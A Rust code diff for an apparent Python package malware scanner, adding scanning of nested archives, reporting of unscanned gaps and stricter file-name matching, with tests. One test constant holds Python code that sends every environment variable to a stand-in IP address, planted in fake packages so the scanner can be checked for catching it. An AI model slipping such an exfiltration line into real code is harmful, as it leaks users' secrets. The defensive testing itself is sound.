@@ -21,6 +21,9 @@ pub struct ArchiveScan {
     pub members: usize,
     /// Whether the read stopped early.
     pub incomplete: bool,
+    /// What was not scanned and why (caps, corruption, unreadable nested
+    /// archives): the package's scan status is `unknown` when not empty.
+    pub gaps: Vec<String>,
 }
 
 /// The scanner could not run at all (its embedded rules failed to compile).
@@ -118,32 +121,51 @@ fn pure_wheel(filename: &str) -> bool {
     filename.to_ascii_lowercase().ends_with("-none-any.whl")
 }
 
-/// Scans an archive held in memory. `filename` is used only to tell wheels
-/// from sdists for the binary check; the format comes from the bytes.
-pub fn scan_bytes(
-    filename: &str,
-    bytes: &[u8],
-    limits: &Limits,
-) -> Result<ArchiveScan, RulesError> {
-    let rules = rules::rules().map_err(RulesError)?;
-    // Text members are read in full; of the rest only the head (for magic numbers).
-    let keep = |p: &str| is_text(p) || p.ends_with("/WHEEL");
-    // Members are analysed as they stream by; only what needs the whole
-    // archive first waits: `.pth` files, top-level modules (a `.pth` may import
-    // them), setup.py text, and binaries (judged once setup.py is known).
-    let mut pth: Vec<(String, Vec<u8>)> = Vec::new();
-    let mut deferred: Vec<(String, Vec<u8>)> = Vec::new();
-    let mut binaries: Vec<(String, u64, &'static str)> = Vec::new();
-    let mut setup_text = String::new();
-    let mut is_wheel = false;
-    let mut findings: Vec<(Option<String>, MemberFinding)> = Vec::new();
-    let mut on_member = |m: archive::Member| {
-        if m.path.contains(".dist-info/") && m.path.ends_with("/WHEEL") {
-            is_wheel = true;
+/// How deep archives inside archives are read (a wheel in an sdist is 1).
+const MAX_NESTING: usize = 2;
+
+/// Whether a member's name says it is an archive the scanner opens.
+fn is_nested_archive(path: &str) -> bool {
+    let l = path.to_ascii_lowercase();
+    [
+        ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar", ".egg",
+    ]
+    .iter()
+    .any(|s| l.ends_with(s))
+}
+
+/// What the members of an archive (and of the archives inside it) leave for
+/// the whole-archive passes, and the findings made as they streamed by.
+struct Collector<'r> {
+    rules: &'r rules::Rules,
+    /// `.pth` files: judged once every module is known.
+    pth: Vec<(String, Vec<u8>)>,
+    /// Top-level modules: a `.pth` may import them.
+    deferred: Vec<(String, Vec<u8>)>,
+    /// Executables: judged once setup.py is known.
+    binaries: Vec<(String, u64, &'static str)>,
+    /// Nested archives still to open: (path, bytes, depth).
+    nested: Vec<(String, Vec<u8>, usize)>,
+    setup_text: String,
+    is_wheel: bool,
+    findings: Vec<(Option<String>, MemberFinding)>,
+}
+
+impl Collector<'_> {
+    /// One member, at nesting `depth` (0: the archive itself); `prefix` is
+    /// the nested archive's path with a `!/` separator.
+    fn member(&mut self, m: archive::Member, prefix: &str, depth: usize) {
+        let path = format!("{prefix}{}", m.path);
+        if depth == 0 && m.path.contains(".dist-info/") && m.path.ends_with("/WHEEL") {
+            self.is_wheel = true;
         }
         let Some(data) = m.data else { return };
+        if is_nested_archive(&m.path) && archive::detect(&data).is_some() {
+            self.nested.push((path, data, depth + 1));
+            return;
+        }
         if let Some(kind) = binary_kind(&data) {
-            binaries.push((m.path, m.size, kind));
+            self.binaries.push((path, m.size, kind));
             return;
         }
         if !is_text(&m.path) {
@@ -151,26 +173,93 @@ pub fn scan_bytes(
         }
         let lower = m.path.to_ascii_lowercase();
         if lower.ends_with(".pth") {
-            pth.push((m.path, data));
+            self.pth.push((path, data));
             return;
         }
-        let role = analyze::role(&m.path, &[]);
+        let role = analyze::role(&path, &[]);
         if role == analyze::Role::Install {
-            setup_text.push_str(&String::from_utf8_lossy(&data));
+            self.setup_text.push_str(&String::from_utf8_lossy(&data));
         }
-        let depth = m.path.split('/').filter(|c| !c.is_empty()).count();
-        if depth <= 2 && role == analyze::Role::Module {
-            deferred.push((m.path, data));
+        let top_level = m.path.split('/').filter(|c| !c.is_empty()).count() <= 2;
+        if depth == 0 && top_level && role == analyze::Role::Module {
+            self.deferred.push((path, data));
             return;
         }
-        for f in analyze::analyze(rules, &m.path, &data, role) {
-            findings.push((Some(m.path.clone()), f));
+        for f in analyze::analyze(self.rules, &path, &data, role) {
+            self.findings.push((Some(path.clone()), f));
         }
+    }
+}
+
+/// Scans an archive held in memory. `filename` is used only to tell wheels
+/// from sdists for the binary check; the format comes from the bytes.
+/// Archives inside it are opened too (to [`MAX_NESTING`] levels), their
+/// members named `outer/inner.zip!/path`.
+pub fn scan_bytes(
+    filename: &str,
+    bytes: &[u8],
+    limits: &Limits,
+) -> Result<ArchiveScan, RulesError> {
+    let rules = rules::rules().map_err(RulesError)?;
+    // Text members and nested archives are read in full; of the rest only
+    // the head (for magic numbers).
+    let keep = |p: &str| is_text(p) || p.ends_with("/WHEEL") || is_nested_archive(p);
+    // Members are analysed as they stream by; only what needs the whole
+    // archive first waits.
+    let mut c = Collector {
+        rules,
+        pth: Vec::new(),
+        deferred: Vec::new(),
+        binaries: Vec::new(),
+        nested: Vec::new(),
+        setup_text: String::new(),
+        is_wheel: false,
+        findings: Vec::new(),
     };
-    let contents = archive::read(bytes, limits, &keep, &mut on_member);
+    let mut contents = archive::read(bytes, limits, &keep, &mut |m| c.member(m, "", 0));
+    while let Some((path, data, depth)) = c.nested.pop() {
+        if depth > MAX_NESTING {
+            contents.anomalies.push(archive::Anomaly {
+                path: Some(path.clone()),
+                what: format!("an archive nested more than {MAX_NESTING} deep: not opened"),
+                dangerous: true,
+            });
+            contents
+                .gaps
+                .push(format!("{path}: nested too deep to open"));
+            contents.incomplete = true;
+            continue;
+        }
+        let prefix = format!("{path}!/");
+        let inner = archive::read(&data, limits, &keep, &mut |m| c.member(m, &prefix, depth));
+        contents.members += inner.members;
+        for mut a in inner.anomalies {
+            a.path = Some(match a.path {
+                Some(p) => format!("{prefix}{p}"),
+                None => path.clone(),
+            });
+            contents.anomalies.push(a);
+        }
+        for g in inner.gaps {
+            contents
+                .gaps
+                .push(format!("{path} (an archive inside the archive): {g}"));
+        }
+        contents.incomplete |= inner.incomplete;
+    }
+    let Collector {
+        pth,
+        deferred,
+        binaries,
+        setup_text,
+        is_wheel,
+        findings,
+        ..
+    } = c;
     let mut out = ArchiveScan {
         members: contents.members,
         incomplete: contents.incomplete,
+        gaps: contents.gaps.clone(),
         findings,
     };
     for a in &contents.anomalies {
@@ -220,7 +309,7 @@ pub fn scan_bytes(
     if pure {
         for (path, size, kind) in binaries {
             let base = path.rsplit('/').next().unwrap_or(&path);
-            let used_at_install = !base.is_empty() && setup_text.contains(base);
+            let used_at_install = names_file(&setup_text, base);
             out.findings.push((
                 Some(path.clone()),
                 MemberFinding {
@@ -251,6 +340,18 @@ pub fn scan_bytes(
         }
     }
     Ok(out)
+}
+
+/// Whether `text` names the file `base` as a word of its own (`tool` in
+/// `'bin/tool'`, not in `setuptools`).
+fn names_file(text: &str, base: &str) -> bool {
+    if base.is_empty() {
+        return false;
+    }
+    let ident = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+    text.match_indices(base).any(|(i, _)| {
+        !ident(text[..i].chars().next_back()) && !ident(text[i + base.len()..].chars().next())
+    })
 }
 
 fn pth_findings(rules: &rules::Rules, data: &[u8]) -> Vec<MemberFinding> {
@@ -317,10 +418,146 @@ mod tests {
     }
 
     #[test]
+    fn setup_py_names_a_file_only_as_a_word() {
+        assert!(names_file("subprocess.call(['bin/tool'])", "tool"));
+        assert!(!names_file("from setuptools import setup", "tool"));
+        assert!(!names_file("x", ""));
+    }
+
+    #[test]
     fn magic_bytes() {
         assert_eq!(binary_kind(b"\x7fELF\x02\x01"), Some("ELF executable"));
         assert_eq!(binary_kind(b"print('MZ')"), None);
         assert!(pure_wheel("x-1.0-py3-none-any.whl"));
         assert!(!pure_wheel("x-1.0-cp312-cp312-manylinux_2_17_x86_64.whl"));
+    }
+
+    fn targz(files: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
+            Vec::new(),
+            flate2::Compression::fast(),
+        ));
+        for (path, data) in files {
+            let mut header = tar::Header::new_gnu();
+            header.set_size(data.len() as u64);
+            header.set_mode(0o644);
+            header.set_entry_type(tar::EntryType::Regular);
+            builder.append_data(&mut header, path, *data).unwrap();
+        }
+        builder.into_inner().unwrap().finish().unwrap()
+    }
+
+    fn zip(files: &[(&str, &[u8])]) -> Vec<u8> {
+        use std::io::Write;
+        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for (path, data) in files {
+            w.start_file(*path, zip::write::SimpleFileOptions::default())
+                .unwrap();
+            w.write_all(data).unwrap();
+        }
+        w.finish().unwrap().into_inner()
+    }
+
+    const PAYLOAD: &[u8] = b"import os, urllib.request, json\nurllib.request.urlopen('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode())\n";
+
+    fn rules_of(scan: &ArchiveScan) -> Vec<(RuleId, Option<String>)> {
+        scan.findings
+            .iter()
+            .map(|(m, f)| (f.rule, m.clone()))
+            .collect()
+    }
+
+    #[test]
+    fn a_member_above_the_cap_is_a_gap_and_an_anomaly_never_a_silent_pass() {
+        let mut big = b"x = 1\n".repeat(2000);
+        big.extend_from_slice(PAYLOAD);
+        let archive = targz(&[("p-1.0/setup.py", &big)]);
+        let limits = Limits {
+            max_member: 4096,
+            ..Limits::default()
+        };
+        let scan = scan_bytes("p-1.0.tar.gz", &archive, &limits).unwrap();
+        assert_eq!(scan.gaps.len(), 1, "{:?}", scan.gaps);
+        assert!(
+            scan.gaps[0].starts_with("p-1.0/setup.py: 11 KiB, above the 4 KiB cap"),
+            "{:?}",
+            scan.gaps
+        );
+        assert!(
+            rules_of(&scan).contains(&(RuleId::ArchiveAnomaly, Some("p-1.0/setup.py".into()))),
+            "{:?}",
+            scan.findings
+        );
+        // Within the default cap the same member is read and the payload found.
+        let scan = scan_bytes("p-1.0.tar.gz", &archive, &Limits::default()).unwrap();
+        assert!(scan.gaps.is_empty());
+        assert!(
+            rules_of(&scan)
+                .iter()
+                .any(|(r, _)| *r == RuleId::Exfiltration)
+        );
+    }
+
+    #[test]
+    fn corrupt_truncated_and_unrecognised_archives_are_gaps() {
+        let archive = targz(&[("p-1.0/setup.py", PAYLOAD)]);
+        let truncated = &archive[..archive.len() / 2];
+        for (what, bytes) in [
+            ("truncated", truncated.to_vec()),
+            ("unrecognised", b"not an archive at all".to_vec()),
+            ("corrupt zip", b"PK\x03\x04garbage".to_vec()),
+        ] {
+            let scan = scan_bytes("p-1.0.tar.gz", &bytes, &Limits::default()).unwrap();
+            assert!(!scan.gaps.is_empty(), "{what}");
+            assert!(scan.incomplete, "{what}");
+            assert!(
+                rules_of(&scan)
+                    .iter()
+                    .any(|(r, _)| *r == RuleId::ArchiveAnomaly),
+                "{what}"
+            );
+        }
+    }
+
+    #[test]
+    fn archives_inside_archives_are_opened_and_an_unreadable_one_is_a_gap() {
+        let inner = zip(&[("evil/__init__.py", PAYLOAD)]);
+        let outer = targz(&[
+            ("p-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
+            ("p-1.0/vendor/evil-1.0-py3-none-any.whl", &inner),
+        ]);
+        let scan = scan_bytes("p-1.0.tar.gz", &outer, &Limits::default()).unwrap();
+        assert!(scan.gaps.is_empty(), "{:?}", scan.gaps);
+        assert!(
+            rules_of(&scan).contains(&(
+                RuleId::Exfiltration,
+                Some("p-1.0/vendor/evil-1.0-py3-none-any.whl!/evil/__init__.py".into())
+            )),
+            "{:?}",
+            scan.findings
+        );
+        // A nested archive that does not read to the end.
+        let inner = targz(&[("x/run.py", PAYLOAD)]);
+        let cut = &inner[..inner.len() / 2];
+        let outer = targz(&[("p-1.0/data/blob.tar.gz", cut)]);
+        let scan = scan_bytes("p-1.0.tar.gz", &outer, &Limits::default()).unwrap();
+        assert!(
+            scan.gaps
+                .iter()
+                .any(|g| g.starts_with("p-1.0/data/blob.tar.gz (an archive inside the archive)")),
+            "{:?}",
+            scan.gaps
+        );
+        // Nested past the depth limit: not opened, and said so.
+        let mut doc = zip(&[("a.py", b"print(1)\n")]);
+        for i in 0..=MAX_NESTING {
+            doc = zip(&[(&format!("l{i}.zip"), &doc)]);
+        }
+        let scan = scan_bytes("p-1.0-py3-none-any.whl", &doc, &Limits::default()).unwrap();
+        assert!(
+            scan.gaps.iter().any(|g| g.contains("nested too deep")),
+            "{:?}",
+            scan.gaps
+        );
     }
 }
